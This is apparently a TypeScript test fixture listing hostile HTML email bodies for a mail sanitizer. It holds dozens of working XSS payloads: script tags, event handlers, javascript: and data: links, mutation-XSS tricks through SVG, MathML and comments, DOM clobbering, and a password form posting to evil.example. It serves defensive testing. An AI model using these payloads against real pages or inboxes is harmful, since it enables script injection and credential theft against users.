import { type HostileMessage, html } from './hostile-message.ts';

const RUN = 'window.pwned=1;alert(1);document.title=1';

/** Mails that want something to run. */
export const SCRIPTS: readonly HostileMessage[] = [
  html('a script', `<script>${RUN}</script>`),
  html('a script in odd letters', `<ScRiPt\t/x>${RUN}</sCrIpT\n>`),
  html(
    'a script from elsewhere',
    '<script/src="https://evil.example/x.js" defer></script><script async src=//evil.example/y.js>' + '</script>',
  ),
  html(
    'a module, an import map and speculation rules',
    `<script type="module">${RUN}</script><script type=importmap>{}</script><script type=speculationrules>{"prefetch":[{"urls":["https://evil.example/"]}]}</script>`,
  ),
  html('a script within a script', `<script><!--<script></script>${RUN}</script>-->`),
  html(
    'handlers of what fails to load',
    `<img src=x onerror="${RUN}"><video src=x onerror="${RUN}"><source onerror="${RUN}"></video><audio src=x onerror="${RUN}"></audio>`,
  ),
  html(
    'handlers of what loads',
    `<body onload="${RUN}" onpageshow="${RUN}"><svg onload="${RUN}"></svg><style onload="${RUN}"></style><iframe onload="${RUN}"></iframe>`,
  ),
  html(
    'handlers that need nobody',
    `<details open ontoggle="${RUN}"></details><input autofocus onfocus="${RUN}"><marquee onstart="${RUN}"></marquee><p style="animation:x" onanimationstart="${RUN}"></p>`,
  ),
  html(
    'handlers in code',
    '<img src=x onerror=&#97;&#108;ert&lpar;1)><img src=x o&#110;error=alert(1)><img/src/onerror=alert(1)>',
  ),
  html(
    'javascript: links',
    '<a href="javascript:alert(1)">one</a> <a href="JaVa\tScRiPt:alert(1)">two</a> <a href="&#1;javascript&colon;alert(1)">three</a> <a href=" java&#10;script:alert(1)">four</a>',
  ),
  html(
    'vbscript:, data:, blob: and file: links',
    '<a href="vbscript:msgbox(1)">one</a> <a href="data:text/html,<script>alert(1)</script>">two</a> <a href="blob:https://evil.example/1">three</a> <a href="file:///etc/passwd">four</a>',
  ),
  html(
    'links into the browser and the extension',
    '<a href="chrome://settings">one</a> <a href="about:config">two</a> <a href="moz-extension://x/src/popup/index.html">three</a> <a href="src/options/index.html">four</a> <a href="view-source:https://evil.example">five</a>',
  ),
  html(
    'a javascript: frame',
    `<iframe src="javascript:parent.${RUN}"></iframe><frameset><frame src="javascript:alert(1)"></frameset>`,
  ),
  html(
    'a document in a frame',
    `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe><iframe srcdoc="&lt;img src=x onerror=&quot;parent.pwned=1&quot;&gt;"></iframe>`,
  ),
  html(
    'plugins',
    '<object data="javascript:alert(1)"><param name=src value="javascript:alert(1)"></object><embed src="javascript:alert(1)"><applet code=Evil archive="https://evil.example/e.jar"></applet>',
  ),
  html(
    'forms',
    '<form action="https://evil.example/" id=f><input name=password type=password><button formaction="javascript:alert(1)">Sign in</button></form><isindex action="javascript:alert(1)" type=image>',
  ),
  html(
    'SVG',
    `<svg><script>${RUN}</script><a xlink:href="javascript:alert(1)"><text>svg</text></a><animate attributeName=href values="javascript:alert(1)"/><foreignObject><img src=x onerror="${RUN}"></foreignObject><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>`,
  ),
  html(
    'MathML',
    '<math href="javascript:alert(1)"><maction actiontype="statusline#https://evil.example" xlink:href="javascript:alert(1)">math</maction></math>',
  ),
  html(
    'a refresh to a script',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)"><meta http-equiv="Content-Security-Policy" content="default-src *"><meta http-equiv="Set-Cookie" content="a=b">',
  ),
  html(
    'CSS that runs',
    '<p style="width:expression(alert(1));behavior:url(#default#time2);-moz-binding:url(https://evil.example/x.xml#x)">styled</p><style>*{xss:expression(alert(1))}</style>',
  ),
  html('a mutation through noscript', `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`),
  html('a mutation through SVG and style', `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>"></style></svg>`),
  html(
    'a mutation through MathML',
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;"></table></mtext></math>`,
  ),
  html(
    'a mutation through nested forms',
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}></style></mglyph></form></mtext></math>`,
  ),
  html('a mutation through a comment', `<!--><img src=x onerror=${RUN}>--><!-- --!><img src=x onerror=${RUN}><!-- -->`),
  html(
    'a mutation through xmp, title and textarea',
    `<xmp><p title="</xmp><img src=x onerror=${RUN}>"></xmp><title><img title="</title><img src=x onerror=${RUN}>"></title><textarea><img title="</textarea><img src=x onerror=${RUN}>"></textarea>`,
  ),
  html(
    'CDATA and processing instructions',
    `<svg><![CDATA[><img src=x onerror=${RUN}>]]></svg><![CDATA[ <script>${RUN}</script> ]]><?xml-stylesheet href="javascript:alert(1)"?>`,
  ),
  html(
    'templates and shadow roots',
    `<template><img src=x onerror="${RUN}"></template><div><template shadowrootmode=open><script>${RUN}</script></template></div><x-pwned is=script></x-pwned>`,
  ),
  html(
    'names that hide those of the page',
    '<form id=location name=chrome><input name=body><input name=getElementById></form><img name=trustedTypes><a id=pwned href=https://a.example></a><p id=popup class=popup>clobbered</p>',
  ),
  html('UTF-7', '+ADw-script+AD4-alert(1)+ADw-/script+AD4-', { type: 'text/html; charset=utf-7' }),
  html(
    'our own marks',
    '<t-link href="javascript:alert(1)">one</t-link><t-picture alt="<script>alert(1)</script>"></t-picture><t-unseen><a href=\'"><img src=x onerror=alert(1)>\'>two</a></t-unseen>',
  ),
];
